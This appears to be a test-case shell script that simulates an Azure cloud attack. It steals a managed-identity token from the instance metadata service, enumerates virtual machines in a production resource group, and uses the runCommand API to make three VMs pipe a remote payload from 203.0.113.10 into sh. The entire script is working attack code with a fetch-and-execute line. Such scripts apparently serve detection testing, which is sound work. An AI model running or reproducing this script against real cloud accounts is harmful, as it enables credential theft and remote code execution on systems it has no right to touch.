#!/bin/sh
. /opt/case/case.sh

t=$(curl -sf -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/')
g=http://management.azure.com/subscriptions/0/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines
curl -sf -H "Authorization: Bearer $t" "$g?api-version=2023-03-01" >/dev/null
for v in web1 web2 db1; do curl -sf -X POST -H "Authorization: Bearer $t" -H 'Content-Type: application/json' -d '{"commandId":"RunShellScript","script":["curl -s http://203.0.113.10/payload.sh | sh"]}' "$g/$v/runCommand?api-version=2023-03-01" >/dev/null; done
took_place
